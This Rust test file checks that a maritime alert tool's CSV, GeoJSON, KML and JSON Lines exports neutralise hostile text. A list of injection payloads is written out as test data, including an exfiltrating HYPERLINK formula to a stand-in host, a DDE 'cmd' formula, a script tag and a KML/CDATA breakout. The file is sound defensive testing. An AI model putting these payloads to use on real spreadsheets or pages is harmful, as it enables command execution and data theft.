//! Exported alerts as other programs read them: hostile texts stay texts, coordinates stay on the globe, nothing is lost.
//!
//! With `ATALAIA_WITNESS_PYTHON` (see `tests/run`) Python's own readers and GDAL read the same files and must get the same content.

use std::fs;
use std::path::Path;
use std::process::Command;
use std::sync::LazyLock;

use atalaia::storage::export::{Format, write};
use atalaia_core::engine::Settings;
use atalaia_core::scenario::{Scenario, Vessel, away, beside};
use csv_core::{ReadRecordResult, ReaderBuilder};
use serde_json::{Value, json};
use tempfile::TempDir;

use crate::harness::passed_over::installed;
use crate::harness::scenes;
use xml::Element;

mod xml;

/// Texts that an attacker may send or write.
const HOSTILE: [&str; 14] = [
    "=HYPERLINK(\"http://x.example/?\"&A1,\"ALFA\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    " \t=1",
    "\u{200b}\u{202e}=1",
    "A;=1;\"=2\"",
    "A,\"B\"\r\nC,\"",
    "<script>alert(1)</script>",
    "]]></name></Placemark><![CDATA[",
    "&amp;&lt;b&gt;&#60;$[description]",
    "\0\u{1}\u{7f}\u{9b}31m\u{fffe}\u{ffff}",
    "\u{202a}A\u{2066}B\u{2069}\u{200f}\u{feff}C",
    "\"},{\"type\":\"Feature\"},\\",
];

fn text(format: Format, alerts: &[Value]) -> String {
    let mut out = Vec::new();
    write(format, alerts, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

/// The last line of each alert of a meeting on the antimeridian, facts included, with hostile ship names.
static STORED: LazyLock<Vec<Value>> = LazyLock::new(|| {
    let (lat, lon) = scenes::MIDDLE;
    let (from_lat, from_lon) = away(lat, lon, 270.0, 36.0);
    let mother = Vessel::class_a(224_123_456).name("=HYPERLINK(\"A\",\"B\")").call_sign("]]><A&").ship_type(70);
    let mother = mother.dims(100, 20, 10, 10).at(from_lat, from_lon).leg_to(lat, lon, 12.0).heading(90.0);
    let (along_lat, along_lon) = beside(lat, lon, 0.0, 60.0);
    let (start_lat, start_lon) = away(along_lat, along_lon, 135.0, 28.0);
    let daughter = Vessel::class_b(263_400_001).name("]]><SCRIPT>;-1\"'").call_sign("-1").ship_type(30);
    let daughter = daughter.at(start_lat, start_lon).from_minute(30.0).leg_to(along_lat, along_lon, 8.0);
    let scenario = Scenario::new("2024-03-01T10:20:00Z")
        .vessel(mother.stop_minutes(150.0).leg(60.0, 40.0, 12.0))
        .vessel(daughter.stop_minutes(50.0).leg(150.0, 30.0, 9.0));
    // They meet some five miles east of 180 degrees; the mother came from the other side.
    let east = 180.1 - lon;
    let lines = scenario.moved_east(east).nmea();
    let changes = scenes::run_with(&Settings::default(), &scenes::endless_ocean(east), lines.as_bytes());
    let mut alerts: Vec<Value> = Vec::new();
    for change in changes {
        let alert = change["alert"].clone();
        match alerts.iter_mut().find(|known| known["id"] == alert["id"]) {
            Some(known) => *known = alert,
            None => alerts.push(alert),
        }
    }
    assert!(alerts.iter().any(|alert| alert["behaviour"] == "rendezvous"), "{alerts:?}");
    for (alert, said) in alerts.iter_mut().zip(HOSTILE.iter().cycle()) {
        alert["state"] = "acknowledged".into();
        for key in ["assignee", "finding", "finding_reason"] {
            alert[key] = (*said).into();
        }
        alert["notes"] = json!([{"at": "2024-03-01T15:00:00Z", "who": said, "text": said}]);
    }
    alerts
});

fn looked_at() -> Vec<Value> {
    let lines = fs::read_to_string("tests/exports/alerts.jsonl").unwrap();
    let alert = |line| {
        let mut alert: Value = serde_json::from_str(line).unwrap();
        // The alert must read back as stored, apart from the file's own marking.
        alert.as_object_mut().unwrap().shift_remove("file_tlp").unwrap();
        alert
    };
    lines.lines().map(alert).collect()
}

/// The same alert with every text in it replaced.
fn spoilt(value: &Value, said: &str) -> Value {
    match value {
        Value::String(_) => said.into(),
        Value::Array(values) => values.iter().map(|value| spoilt(value, said)).collect(),
        Value::Object(fields) => fields.iter().map(|(key, value)| (key.clone(), spoilt(value, said))).collect(),
        other => other.clone(),
    }
}

/// All alerts, and each of them with every hostile text in all places.
fn all() -> Vec<Value> {
    let mut alerts = STORED.clone();
    alerts.extend(looked_at());
    let spoilt = HOSTILE.iter().flat_map(|said| alerts.iter().map(move |alert| spoilt(alert, said)));
    let spoilt: Vec<Value> = spoilt.collect();
    alerts.extend(spoilt);
    alerts
}

fn rows(text: &str, separator: u8) -> Vec<Vec<String>> {
    let mut reader = ReaderBuilder::new().delimiter(separator).build();
    let (mut rest, mut rows) = (text.as_bytes(), Vec::new());
    let (mut cells, mut ends) = (vec![0; text.len()], vec![0; text.len()]);
    let (mut filled, mut fields) = (0, 0);
    loop {
        let (result, read, wrote, ended) = reader.read_record(rest, &mut cells[filled..], &mut ends[fields..]);
        rest = &rest[read..];
        (filled, fields) = (filled + wrote, fields + ended);
        match result {
            ReadRecordResult::Record => {}
            ReadRecordResult::InputEmpty => continue,
            ReadRecordResult::End => return rows,
            other => panic!("{other:?}"),
        }
        let cell = |field: usize| {
            let start = if field == 0 { 0 } else { ends[field - 1] };
            String::from_utf8(cells[start..ends[field]].to_vec()).unwrap()
        };
        rows.push((0..fields).map(cell).collect());
        (filled, fields) = (0, 0);
    }
}

/// All placemarks, folder by folder.
fn placemarks(kml: &Element) -> Vec<&Element> {
    let document = kml.child("Document").unwrap();
    document.all("Folder").flat_map(|folder| folder.all("Placemark")).collect()
}

fn is_hidden(c: char) -> bool {
    c.is_control() || "\u{200b}\u{200f}\u{202a}\u{202e}\u{2066}\u{2069}\u{feff}".contains(c)
}

fn begins_a_formula(cell: &str) -> bool {
    cell.trim_start().starts_with(['=', '+', '-', '@'])
}

fn tracks(alert: &Value) -> usize {
    alert["evidence"]["tracks"].as_array().map_or(0, Vec::len)
}

#[test]
fn the_files_match_the_reviewed_ones() {
    let alerts = looked_at();
    for format in Format::ALL {
        let path = format!("tests/exports/alerts.{format}");
        let written = text(format, &alerts);
        if std::env::var_os("BLESS").is_some() {
            fs::write(&path, &written).unwrap();
        }
        assert_eq!(written, fs::read_to_string(&path).unwrap(), "{path}: look at it, then BLESS=1");
    }
}

#[test]
fn json_lines_are_the_alerts_as_stored() {
    let alerts = all();
    let lines = text(Format::Jsonl, &alerts);
    let read: Vec<Value> = lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let unmarked: Vec<Value> = read
        .into_iter()
        .map(|mut alert| {
            // The file's own marking, before the alert's fields.
            assert_eq!(alert.as_object_mut().unwrap().shift_remove("file_tlp"), Some("TLP:RED".into()));
            alert
        })
        .collect();
    assert!(unmarked == alerts && lines.chars().all(|c| c == '\n' || !is_hidden(c)));
}

#[test]
fn no_cell_of_a_spreadsheet_is_a_formula() {
    let alerts = all();
    let csv = text(Format::Csv, &alerts);
    assert!(csv.starts_with("file_tlp,id,behaviour,severity,score,") && csv.ends_with("\r\n"));
    let read = rows(&csv, b',');
    assert_eq!(read.len(), 1 + alerts.len());
    let numbers = ["score", "lat", "lon"];
    for row in &read[1..] {
        assert_eq!(row.len(), read[0].len(), "{row:?}");
        for (column, cell) in read[0].iter().zip(row) {
            match numbers.contains(&column.as_str()) {
                true => assert!(cell.is_empty() || cell.parse::<f64>().is_ok(), "{column}: {cell:?}"),
                false => assert!(!begins_a_formula(cell), "{column}: {cell:?}"),
            }
            assert!(!cell.contains(is_hidden), "{column}: {cell:?}");
        }
    }
    // In locales with a decimal comma, spreadsheets split at semicolons.
    let cut: Vec<String> = rows(&csv, b';').into_iter().flatten().collect();
    let formula = cut.iter().find(|cell| begins_a_formula(cell));
    assert!(alerts.len() < cut.len() && formula.is_none(), "{formula:?}");
}

#[test]
fn a_map_gets_a_point_per_alert_and_a_line_per_track() {
    let alerts = all();
    let features = collection(&text(Format::GeoJson, &alerts)).features;
    assert_eq!(features.len(), alerts.len() + alerts.iter().map(tracks).sum::<usize>());
    let mut cut = 0;
    for feature in &features {
        let shape = json!(feature.geometry);
        for part in lines(&shape) {
            let long = part.windows(2).find(|pair| 180.0 < (pair[0].0 - pair[1].0).abs());
            assert!(long.is_none(), "goes round the world: {long:?}");
            assert!(part.iter().all(|(lon, lat)| lon.abs() <= 180.0 && lat.abs() <= 90.0));
        }
        cut += usize::from(shape["type"] == "MultiLineString");
        for (key, value) in feature.properties_iter() {
            assert!(!value.is_array() && !value.is_object(), "{key} is not flat: {value}");
            let said = value.as_str().unwrap_or_default();
            assert!(!said.contains(|c| is_hidden(c) && !(key == "notes" && c == '\n')), "{key}: {said:?}");
        }
    }
    assert!(0 < cut, "no track crosses 180 degrees");
    let rendezvous =
        features.iter().find(|feature| feature.property("behaviour") == Some(&json!("rendezvous"))).unwrap();
    let property = |key| rendezvous.property(key).and_then(Value::as_str).unwrap_or_default().to_owned();
    assert_eq!(property("names"), "=HYPERLINK(\"A\",\"B\");]]><SCRIPT>,-1\"'");
    assert_eq!((property("call_signs"), property("mmsi")), ("]]><A&;-1".to_owned(), "224123456;263400001".to_owned()));
}

#[test]
fn a_globe_finds_no_markup_in_texts() {
    let alerts = all();
    let kml = xml::read(&text(Format::Kml, &alerts)).unwrap();
    let placemarks = placemarks(&kml);
    assert_eq!(placemarks.len(), alerts.len() + alerts.iter().map(tracks).sum::<usize>());
    for placemark in &placemarks {
        let description = placemark.text_of("description").unwrap_or_default();
        let markup = description.replace("<br>", "");
        assert!(!markup.contains(['<', '>']) && !markup.contains("$["), "{description}");
        let style = placemark.text_of("styleUrl").unwrap().trim_start_matches('#');
        let styles = kml.child("Document").unwrap().all("Style");
        assert_eq!(styles.filter(|shared| shared.attributes == [("id".to_owned(), style.to_owned())]).count(), 1);
    }
    let folders: Vec<&str> =
        kml.child("Document").unwrap().all("Folder").filter_map(|folder| folder.text_of("name")).collect();
    let order = ["critical", "high", "medium", "low", "info"];
    let expected: Vec<&str> = order.into_iter().filter(|name| folders.contains(name)).collect();
    assert!(folders == expected && folders.first() == Some(&"critical"), "{folders:?}");
    for alert in STORED.iter() {
        let data = |placemark: &&&Element| {
            let data = placemark.child("ExtendedData").unwrap();
            data.texts().contains(&alert["id"].as_str().unwrap().to_owned())
        };
        let placemark = placemarks.iter().find(data).unwrap();
        let description = placemark.text_of("description").unwrap();
        let said = description.split("<br>").next().unwrap_or_default();
        let said = [("&lt;", "<"), ("&gt;", ">"), ("&quot;", "\""), ("&#39;", "'"), ("&#36;", "$"), ("&amp;", "&")]
            .iter()
            .fold(said.to_owned(), |said, (entity, c)| said.replace(entity, c));
        assert_eq!(said, alert["summary"].as_str().unwrap());
    }
}

#[test]
fn other_programs_read_the_same_content() {
    let Some(python) = installed("ATALAIA_WITNESS_PYTHON") else { return };
    let (folder, alerts) = (TempDir::new().unwrap(), all());
    for format in Format::ALL {
        fs::write(folder.path().join(format!("alerts.{format}")), text(format, &alerts)).unwrap();
    }
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/witness/exports.py");
    let output = Command::new(python).arg(script).arg(folder.path()).output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let told: Value = serde_json::from_slice(&output.stdout).unwrap();

    assert!(told["csv"] == json!(rows(&text(Format::Csv, &alerts), b',')));
    let kml = xml::read(&text(Format::Kml, &alerts)).unwrap();
    assert!(told["kml"] == json!(kml.texts()));
    let features = collection(&text(Format::GeoJson, &alerts)).features;
    assert_eq!(told["features"], features.len());
    let seen = |feature: &geojson::Feature| {
        let property = |key| feature.property(key).cloned().unwrap_or_default();
        let shape = json!(feature.geometry);
        json!([
            property("kind"),
            property("alert"),
            property("mmsi"),
            property("names"),
            property("summary"),
            shape["type"]
        ])
    };
    for (theirs, ours) in told["map"].as_array().unwrap().iter().zip(&features) {
        assert_eq!(*theirs, seen(ours));
    }
    for folder in kml.child("Document").unwrap().all("Folder") {
        let ours: Vec<Value> = folder.all("Placemark").map(named).collect();
        assert_eq!(told["globe"][folder.text_of("name").unwrap()], json!(ours));
    }
}

/// Name and kind of geometry, as GDAL reports them.
fn named(placemark: &Element) -> Value {
    let kind = placemark.children.last().map(|last| match last.name.as_str() {
        "MultiGeometry" => "MultiLineString",
        kind => kind,
    });
    json!([placemark.text_of("name"), kind.filter(|kind| *kind != "ExtendedData")])
}

fn collection(text: &str) -> geojson::FeatureCollection {
    text.parse::<geojson::GeoJson>().unwrap().try_into().unwrap()
}

/// The positions of a geometry, part by part.
fn lines(shape: &Value) -> Vec<Vec<(f64, f64)>> {
    let read = |places: &Value| serde_json::from_value::<Vec<(f64, f64)>>(places.clone()).unwrap();
    let places = &shape["coordinates"];
    match shape["type"].as_str() {
        None => Vec::new(),
        Some("Point") => vec![vec![serde_json::from_value(places.clone()).unwrap()]],
        Some("LineString") => vec![read(places)],
        Some("MultiLineString") => places.as_array().unwrap().iter().map(read).collect(),
        Some(other) => panic!("{other} was not expected"),
    }
}
